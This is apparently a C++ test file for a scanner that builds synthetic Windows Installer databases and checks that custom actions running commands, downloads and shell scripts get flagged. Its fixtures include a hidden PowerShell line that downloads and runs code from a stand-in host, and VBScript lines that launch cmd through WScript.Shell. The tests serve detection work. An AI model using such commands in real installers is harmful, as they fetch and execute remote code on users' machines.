// Windows Installer databases: names of streams, scripts among them, what custom actions run.
#include <doctest/doctest.h>

#include "content/office/made_ole.h"
#include "content/testing.h"

namespace sekisho::content {
namespace {

using testing::ole_of;
using testing::put;

// A stream's name as the installer writes it, in UTF-8: two letters in one code unit.
std::string coded(const std::string& name, bool table) {
  const std::string letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._";
  std::string out = table ? "\xe4\xa1\x80" : "";
  for (std::size_t i = 0; i < name.size(); i += 2) {
    const auto first = letters.find(name[i]);
    append_utf8(out, i + 1 < name.size() ? static_cast<char32_t>(0x3800 + first + (letters.find(name[i + 1]) << 6))
                                         : static_cast<char32_t>(0x4800 + first));
  }
  return out;
}

struct Database {
  std::string pool = std::string("\xe4\x04\0\0", 4), data;  // code page 1252
  std::uint64_t strings = 0;

  std::uint64_t add(const std::string& text) {
    put(pool, text.size(), 2), put(pool, 1, 2);
    data += text;
    return ++strings;
  }
};

std::string installer(std::uint32_t type, const std::string& source, const std::string& target) {
  Database database;
  const auto table = database.add("CustomAction"), name = database.add("action"), from = database.add(source),
             to = database.add(target);
  std::string actions, columns;
  put(actions, name, 2), put(actions, type ^ 0x8000u, 2), put(actions, from, 2), put(actions, to, 2);
  for (int i = 0; i < 4; ++i) put(columns, table, 2);
  put(columns, 0, 24);
  std::string root =
      ole_of({{coded("_StringPool", true), database.pool},
              {coded("_StringData", true), database.data},
              {coded("CustomAction", true), actions},
              {coded("_Columns", true), columns},
              {coded("Binary.run", false),
               "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd /c calc\"\r\nOn Error Resume Next\r\nDim a\r\n"},
              {coded("media1.cab", false), std::string("MSCF\0\0\0\0", 8) + std::string(80, 'x')}});
  return root;
}

}  // namespace

TEST_CASE("streams of an installer are found under their names, scripts too") {
  const auto bytes = installer(1, "x", "y");
  const auto document = read_as_kind(bytes, "msi");
  REQUIRE(document.parts.size() == 3);
  std::vector<std::string_view> names{document.parts[1].filename, document.parts[2].filename};
  std::sort(names.begin(), names.end());
  CHECK(names == std::vector<std::string_view>{"media1.cab", "run"});
  CHECK_FALSE(has_trait(document, "installer.command"));
}

TEST_CASE("what an installer's actions run is told") {
  const auto bytes = installer(50, "x", "powershell -w hidden iex (iwr https://far.example/x)");
  const auto document = read_as_kind(bytes, "msi");
  CHECK(has_trait(document, "installer.command"));
  CHECK(has_trait(document, "installer.download"));
  CHECK_FALSE(has_trait(document, "script.shell"));  // installers run programs by their nature
  CHECK(links_to(document, "https://far.example/x"));
  const auto script = installer(38, "x", "CreateObject(\"WScript.Shell\").Run \"cmd /c calc\"");
  CHECK(has_trait(read_as_kind(script, "msi"), "installer.shell"));
}

TEST_CASE("every beginning of an installer is read as far as it goes") {
  const auto whole = installer(50, "x", "cmd /c y");
  for (std::size_t n = 512; n < whole.size(); n += 7) {
    const auto cut = whole.substr(0, n);
    CHECK(read_as_kind(cut, "msi").parts.size() <= 4);
  }
}

}  // namespace sekisho::content
